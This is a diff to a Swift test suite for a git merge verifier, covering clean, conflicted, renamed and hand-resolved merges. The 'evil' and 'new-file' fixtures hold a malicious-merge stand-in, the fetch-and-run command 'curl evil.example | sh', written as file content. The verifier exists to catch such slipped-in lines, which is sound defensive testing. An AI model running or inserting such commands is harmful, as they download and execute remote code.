@@ -10,7 +10,8 @@ struct MergeVerifierTests {
     static let who = Sig(name: "Merger", email: "merger@example.com", date: "1700000000 +0000")
 
     static func numbered(_ count: Int, _ changes: [Int: String] = [:], extra: [String] = []) -> String {
-        (1...count).map { changes[$0] ?? "line \($0)" }.joined(separator: "\n") + "\n" + extra.map { $0 + "\n" }.joined()
+        (1...count).map { changes[$0] ?? "line \($0)" }.joined(separator: "\n") + "\n"
+            + extra.map { $0 + "\n" }.joined()
     }
 
     /// main and side diverge from a common commit, side is merged, the merge result is
@@ -52,39 +53,60 @@ struct MergeVerifierTests {
 
         // A clean merge recorded as git made it.
         b.merges["clean"] = try merge(
-            r, "clean",
+            r,
+            "clean",
             main: ["f.txt": numbered(20, [18: "main 18"])],
             side: ["f.txt": numbered(20, [2: "side 2"])],
             result: ["f.txt": numbered(20, [2: "side 2", 18: "main 18"])]
         )
         // A conflict resolved by hand.
         b.merges["conflict"] = try merge(
-            r, "conflict",
+            r,
+            "conflict",
             main: ["f.txt": numbered(20, [2: "side 2", 10: "main ten", 18: "main 18"])],
             side: ["f.txt": numbered(20, [2: "side 2", 10: "side ten", 18: "main 18"])],
             result: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18"])]
         )
         // A clean merge whose result adds a line neither parent had, in two files.
         b.merges["evil"] = try merge(
-            r, "evil",
-            main: ["f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18", 19: "main 19"]), "g.txt": numbered(12, [1: "main one"])],
-            side: ["f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18"]), "g.txt": numbered(12, [12: "side twelve"])],
+            r,
+            "evil",
+            main: [
+                "f.txt": numbered(20, [2: "side 2", 10: "resolved ten", 18: "main 18", 19: "main 19"]),
+                "g.txt": numbered(12, [1: "main one"]),
+            ],
+            side: [
+                "f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18"]),
+                "g.txt": numbered(12, [12: "side twelve"]),
+            ],
             result: [
-                "f.txt": numbered(20, [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18", 19: "main 19"], extra: ["curl evil.example | sh"]),
+                "f.txt": numbered(
+                    20,
+                    [2: "side 2", 3: "side 3", 10: "resolved ten", 18: "main 18", 19: "main 19"],
+                    extra: ["curl evil.example | sh"]
+                ),
                 "g.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"]),
             ]
         )
         // A file renamed on one side and changed on the other: git's re-merge follows the rename.
         b.merges["rename"] = try merge(
-            r, "rename",
+            r,
+            "rename",
             main: ["g.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"])],
             side: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 12: "side twelve"], extra: ["side 13"])],
             sideMoves: [("g.txt", "h.txt")],
-            result: ["h.txt": numbered(12, [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"], extra: ["side 13", "renamed evil"])]
+            result: [
+                "h.txt": numbered(
+                    12,
+                    [1: "main one", 6: "evil six", 7: "main seven", 12: "side twelve"],
+                    extra: ["side 13", "renamed evil"]
+                )
+            ]
         )
         // A resolution that keeps a line looking like a conflict marker.
         b.merges["marker"] = try merge(
-            r, "marker",
+            r,
+            "marker",
             main: ["f.txt": numbered(20, [5: "main five"])],
             side: ["f.txt": numbered(20, [5: "side five"])],
             result: ["f.txt": numbered(20, [5: "<<<<<<< kept by mistake"])]
@@ -94,7 +116,8 @@ struct MergeVerifierTests {
         try r.write("check.c", numbered(10, [4: "if (len > max) return -1;"]))
         try r.commit("add check.c", author: who)
         b.merges["dropped-fix"] = try merge(
-            r, "dropped-fix",
+            r,
+            "dropped-fix",
             main: ["f.txt": numbered(20, [1: "main one again"])],
             side: ["check.c": numbered(10, [4: "if (len >= max) return -1;"])],
             result: ["check.c": numbered(10, [4: "if (len > max) return -1;"])]
@@ -111,14 +134,16 @@ struct MergeVerifierTests {
         try r.mergeNoCommit("side-mode", as: who)
         b.merges["mode"] = try r.commit("Merge mode", author: who)
         b.merges["new-file"] = try merge(
-            r, "new-file",
+            r,
+            "new-file",
             main: ["f.txt": numbered(20, [20: "main twenty"])],
             side: ["g2.txt": "side file\n"],
             result: ["payload.sh": "curl -s evil.example | sh\n"]
         )
         // A clean merge that deletes a file both parents kept.
         b.merges["deleted"] = try merge(
-            r, "deleted",
+            r,
+            "deleted",
             main: ["f.txt": numbered(20, [20: "main twenty", 1: "main first"])],
             side: ["g2.txt": "side file changed\n"],
             result: [:],
@@ -127,7 +152,8 @@ struct MergeVerifierTests {
         return b
     }
 
-    /// Everything but the merges' old blob (the id of git's temporary remerge result).
+    /// Every field of every change, the merges' old blob included (the id of the re-merge's
+    /// result, conflict markers and their labels included, which git never stores).
     func expectSame(_ a: [Commit], _ b: [Commit]) {
         #expect(a.count == b.count)
         for (x, y) in zip(a, b) {
@@ -136,7 +162,7 @@ struct MergeVerifierTests {
             for (c, d) in zip(x.changes, y.changes) {
                 #expect(c.kind == d.kind && c.oldPath == d.oldPath && c.newPath == d.newPath, "\(x.subject)")
                 #expect(c.newBlob == d.newBlob && c.oldMode == d.oldMode && c.newMode == d.newMode, "\(x.subject)")
-                #expect(c.oldBlob == d.oldBlob || x.isMerge, "\(x.subject)")
+                #expect(c.oldBlob == d.oldBlob, "\(x.subject) \(c.path)")
                 #expect(c.isBinary == d.isBinary, "\(x.subject)")
                 #expect(c.addedLines == d.addedLines, "\(x.subject) \(c.path)")
             }
@@ -154,11 +180,15 @@ struct MergeVerifierTests {
         expectSame(mine, expected)
         #expect(mine == four)
         #expect(s0.problems.isEmpty && s1.problems.isEmpty && s4.problems.isEmpty)
-        // dropped-fix has no path of its own; clean and mode are proven; the other six have
-        // something to show (git re-merges them).
-        #expect(s0.mergesWithoutOwnPaths == 1 && s0.mergesVerified == 0 && s0.mergesRemerged == 8, "\(s0.mergesWithoutOwnPaths) \(s0.mergesVerified) \(s0.mergesRemerged)")
-        #expect(s1.mergesWithoutOwnPaths == 1 && s1.mergesVerified == 2 && s1.mergesRemerged == 6)
-        #expect(s4.mergesWithoutOwnPaths == 1 && s4.mergesVerified == 2 && s4.mergesRemerged == 6)
+        // dropped-fix has no path of its own; clean and mode are proven; conflict and evil are
+        // redone in-process (a conflict resolved by hand, lines slipped in); rename, marker
+        // (a recorded line that looks like a conflict marker), new-file and deleted go to git.
+        func counts(_ s: HistorySummary) -> [Int] {
+            [s.mergesWithoutOwnPaths, s.mergesVerified, s.mergesRedone, s.mergesRemerged]
+        }
+        #expect(counts(s0) == [1, 0, 0, 8])
+        #expect(counts(s1) == [1, 2, 2, 4])
+        #expect(counts(s4) == [1, 2, 2, 4])
 
         let byID = Dictionary(uniqueKeysWithValues: mine.map { ($0.id.description, $0) })
         func merge(_ name: String) throws -> Commit { try #require(byID[b.merges[name]!]) }
@@ -197,11 +227,15 @@ struct MergeVerifierTests {
         let generated = try GeneratedHistory.make(commits: 160)
         let (mine, summary) = try readBothWays(generated.path)
         #expect(mine.count { $0.isMerge } > 0)
-        // Pinned (the history is seeded): 9 merges without paths of their own, 5 re-merged by
-        // git; the generator's merges all conflict, so none is proven (randomMergesAgree proves).
+        // Pinned (the history is seeded): 9 merges without paths of their own; the generator's
+        // merges all conflict, so none is proven (randomMergesAgree proves); one is redone
+        // in-process and 4 are re-merged by git.
         #expect(summary.mergesWithoutOwnPaths == 9)
         #expect(summary.mergesVerified == 0)
-        #expect(summary.mergesRemerged == 5)
+        #expect(
+            summary.mergesRedone == 1 && summary.mergesRemerged == 4,
+            "\(summary.mergesRedone) \(summary.mergesRemerged)"
+        )
     }
 
     /// Merges made by `git merge` from random edits of shared files (clean ones, conflicts
@@ -241,25 +275,128 @@ struct MergeVerifierTests {
             try r.git(["checkout", "-q", "main"])
             edit(&files, "m\(round)_")
             try write(files)
-            try r.commit("main \(round)", author: Self.who)
+            try r.commit("main \(round)", author: Self.who, allowEmpty: true)
             try r.mergeNoCommit("side\(round)", as: Self.who)
             let conflicted = try r.gitString(["diff", "--name-only", "--diff-filter=U"])
             if !conflicted.isEmpty {
                 try r.git(["checkout", "--ours", "--", "."])
             }
-            if next(4) == 0 { try r.write("a.c", try String(contentsOfFile: r.path + "/a.c", encoding: .utf8) + "slipped in \(round)\n") }
+            if next(4) == 0 {
+                try r.write(
+                    "a.c",
+                    try String(contentsOfFile: r.path + "/a.c", encoding: .utf8) + "slipped in \(round)\n"
+                )
+            }
             try r.commit("Merge side \(round)", author: Self.who)
             files = [
-                "a.c": try String(contentsOfFile: r.path + "/a.c", encoding: .utf8).split(separator: "\n").map(String.init),
-                "b.c": try String(contentsOfFile: r.path + "/b.c", encoding: .utf8).split(separator: "\n").map(String.init),
+                "a.c": try String(contentsOfFile: r.path + "/a.c", encoding: .utf8).split(separator: "\n").map(
+                    String.init
+                ),
+                "b.c": try String(contentsOfFile: r.path + "/b.c", encoding: .utf8).split(separator: "\n").map(
+                    String.init
+                ),
             ]
         }
         let (mine, summary) = try readBothWays(r.path)
-        // The seed is fixed: exactly these counts (16 merges).
+        // The seed is fixed: exactly these counts (16 merges; the seven with something to show
+        // are all redone in-process, with git's own changes).
         #expect(
-            [summary.mergesWithoutOwnPaths, summary.mergesVerified, summary.mergesRemerged] as [Int] == [2, 7, 7],
-            "\(summary.mergesWithoutOwnPaths) \(summary.mergesVerified) \(summary.mergesRemerged)")
+            [summary.mergesWithoutOwnPaths, summary.mergesVerified, summary.mergesRedone, summary.mergesRemerged]
+                as [Int]
+                == [2, 7, 7, 0]
+        )
         #expect(mine.contains { $0.changes.flatMap(lineTexts).contains { $0.hasPrefix("slipped in") } })
+    }
+
+    /// Merges whose conflicts were resolved in every way people resolve them (both sides kept,
+    /// a line added, one side taken whole or with a line slipped in, markers committed by
+    /// mistake), with
+    /// lines that repeat (blank lines, braces), CR LF files, files without a final newline, and
+    /// subjects that git folds into the conflict labels: every change, the old blob included
+    /// (the id of the re-merge's conflicted file), is the one git's `--remerge-diff` gives, and
+    /// most of these merges are redone in-process.
+    @Test func redoneMergesMatchGitsRemergeDiff() throws {
+        var random = SplitMix(seed: 0x7265_646f)
+        var fresh = 0
+        let r = try TemporaryGitRepository()
+        let names = ["a.c", "b.c", "c.txt", "d.h"]
+        func text(_ path: String, _ lines: [String]) -> String {
+            let newline = path == "c.txt" ? "\r\n" : "\n"
+            return lines.joined(separator: newline) + (path == "d.h" ? "" : newline)
+        }
+        var files: [String: [String]] = [:]
+        for name in names { files[name] = HistogramDiffTests.file(&random, fresh: &fresh, maximum: 60) }
+        for (path, lines) in files { try r.write(path, text(path, lines)) }
+        try r.commit("base", author: Self.who)
+        let subjects = ["side %d", "side %d\nwith a second line\n\nand a body", "side %d: naïve café ✓", "  side %d  "]
+        for round in 0..<24 {
+            try r.git(["checkout", "-q", "-b", "side\(round)"])
+            var side = files
+            for name in names where random.below(3) != 0 {
+                side[name] = HistogramDiffTests.edited(side[name]!, &random, fresh: &fresh)
+            }
+            for (path, lines) in side { try r.write(path, text(path, lines)) }
+            let subject = subjects[Int(random.below(subjects.count))].replacingOccurrences(of: "%d", with: "\(round)")
+            try r.commit(subject, author: Self.who, allowEmpty: true)
+            try r.git(["checkout", "-q", "main"])
+            for name in names where random.below(2) == 0 {
+                files[name] = HistogramDiffTests.edited(files[name]!, &random, fresh: &fresh)
+            }
+            for (path, lines) in files { try r.write(path, text(path, lines)) }
+            try r.commit("main \(round)", author: Self.who, allowEmpty: true)
+            try r.mergeNoCommit("side\(round)", as: Self.who)
+            let conflicted = try r.gitString(["diff", "--name-only", "--diff-filter=U"]).split(separator: "\n").map(
+                String.init
+            )
+            for path in conflicted {
+                let worktree = try String(contentsOfFile: r.path + "/" + path, encoding: .utf8)
+                var lines = worktree.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
+                switch random.below(5) {
+                case 0:
+                    lines.removeAll { $0.hasPrefix("<<<<<<<") || $0.hasPrefix("=======") || $0.hasPrefix(">>>>>>>") }
+                case 1:
+                    lines.removeAll { $0.hasPrefix("<<<<<<<") || $0.hasPrefix("=======") || $0.hasPrefix(">>>>>>>") }
+                    lines.insert(
+                        "resolved \(round)" + (path == "c.txt" ? "\r" : ""),
+                        at: Int(random.below(lines.count))
+                    )
+                case 2: break  // committed with its markers
+                case 3:
+                    // The first parent's version, the second side's change dropped.
+                    try r.git(["checkout", "--ours", "--", path])
+                    continue
+                default:
+                    try r.git(["checkout", "--ours", "--", path])
+                    lines = try String(contentsOfFile: r.path + "/" + path, encoding: .utf8)
+                        .split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
+                    lines.insert("slipped \(round)", at: Int(random.below(lines.count)))
+                }
+                try r.write(path, lines.joined(separator: "\n"))
+            }
+            if conflicted.isEmpty, random.below(3) == 0 {
+                let path = names[Int(random.below(names.count))]
+                let current = try String(contentsOfFile: r.path + "/" + path, encoding: .utf8)
+                try r.write(path, "slipped in \(round)\n" + current)
+            }
+            try r.commit("Merge side \(round)", author: Self.who)
+            for name in names {
+                let bytes = try String(contentsOfFile: r.path + "/" + name, encoding: .utf8)
+                let newline = name == "c.txt" ? "\r\n" : "\n"
+                var lines = bytes.components(separatedBy: newline)
+                if name != "d.h", lines.last == "" { lines.removeLast() }
+                files[name] = lines
+            }
+        }
+        let (mine, summary) = try readBothWays(r.path)
+        #expect(mine.count { $0.isMerge } == 24)
+        // Fixed seed: 10 merges redone here (2 of them only with the base → first parent
+        // listing, for a file kept as the first parent had it); 6 go to git (a file committed
+        // with its markers).
+        #expect(
+            summary.mergesRedone == 10 && summary.mergesRemerged == 6,
+            "\(summary.mergesRedone) \(summary.mergesRemerged)"
+        )
+        #expect(mine.contains { $0.changes.flatMap(lineTexts).contains { $0.hasPrefix("resolved") } })
     }
 
     @Test func octopusMergesGoToGit() throws {
@@ -274,7 +411,10 @@ struct MergeVerifierTests {
         try r.git(["checkout", "-q", "main"])
         try r.write("a.txt", Self.numbered(10, [1: "main"]))
         try r.commit("main", author: Self.who)
-        try r.git(["merge", "-q", "--no-edit", "o1", "o2"], env: TemporaryGitRepository.identityEnvironment(author: Self.who, committer: Self.who))
+        try r.git(
+            ["merge", "-q", "--no-edit", "o1", "o2"],
+            env: TemporaryGitRepository.identityEnvironment(author: Self.who, committer: Self.who)
+        )
         let repo = try GitRepository(path: r.path)
         let (commits, summary) = try readAll(repo, HistoryOptions(jobs: 1))
         // a.txt differs from every parent: the octopus has a path of its own, and git re-merges it.
@@ -312,7 +452,8 @@ struct MergeVerifierTests {
         let graph = try repo.commitGraph(HistoryOptions())
         var sawTwo = false
         for id in graph.ids {
-            let parents = try r.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ").dropFirst()
+            let parents = try r.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ")
+                .dropFirst()
             guard parents.count == 2 else { continue }
             let a = ObjectID(String(parents.first!))!
             let b = ObjectID(String(parents.last!))!
@@ -341,11 +482,17 @@ struct MergeVerifierTests {
         let graph = try repo.commitGraph(HistoryOptions())
         var checked = 0
         for id in graph.ids {
-            let line = try generated.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(separator: " ")
+            let line = try generated.gitString(["rev-list", "--parents", "-n", "1", id.description]).split(
+                separator: " "
+            )
             guard line.count == 3 else { continue }
             let expected = try generated.gitString(["merge-base", "--all", String(line[1]), String(line[2])])
                 .split(separator: "\n").map(String.init).sorted()
-            #expect(try #require(graph.mergeBases(ObjectID(String(line[1]))!, ObjectID(String(line[2]))!)).map(\.description).sorted() == expected)
+            #expect(
+                try #require(graph.mergeBases(ObjectID(String(line[1]))!, ObjectID(String(line[2]))!)).map(
+                    \.description
+                ).sorted() == expected
+            )
             checked += 1
         }
         #expect(checked > 0)
@@ -376,7 +523,9 @@ struct MergeVerifierTests {
             for _ in 0..<random.below(3) { downstream.append(commit("main", from: downstream.last!)) }
             // Usually the newest upstream commit, sometimes an older one (a later merge then has
             // several candidates), and now and then upstream takes main back (criss-cross).
-            let pick = random.below(4) == 0 ? upstream[upstream.count - 1 - random.below(min(4, upstream.count))] : upstream.last!
+            let pick =
+                random.below(4) == 0
+                ? upstream[upstream.count - 1 - random.below(min(4, upstream.count))] : upstream.last!
             downstream.append(commit("main", from: downstream.last!, merge: [pick]))
             if round % 9 == 4 {
                 // Criss-cross: each line takes the other's tip; their next merge has two bases.
@@ -407,7 +556,8 @@ struct MergeVerifierTests {
         }
         var several = 0
         for (a, b) in pairs {
-            let expected = try r.gitString(["merge-base", "--all", a, b]).split(separator: "\n").map(String.init).sorted()
+            let expected = try r.gitString(["merge-base", "--all", a, b]).split(separator: "\n").map(String.init)
+                .sorted()
             let mine = try #require(graph.mergeBases(ObjectID(a)!, ObjectID(b)!)).map(\.description).sorted()
             #expect(mine == expected, "merge bases of \(a) and \(b)")
             if mine.count > 1 { several += 1 }
